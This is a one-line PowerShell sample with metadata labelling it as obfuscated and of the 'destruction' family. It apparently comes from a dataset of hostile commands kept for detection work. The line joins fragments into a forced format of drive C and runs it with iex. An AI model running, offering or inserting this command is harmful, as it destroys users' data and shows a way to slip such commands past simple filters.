# description: Joins an array of fragments into a Format-Volume command and runs it with iex.
# family: destruction
# obfuscated: yes
iex (('Format', '-Volume', ' -DriveLetter C', ' -Force') -join '')
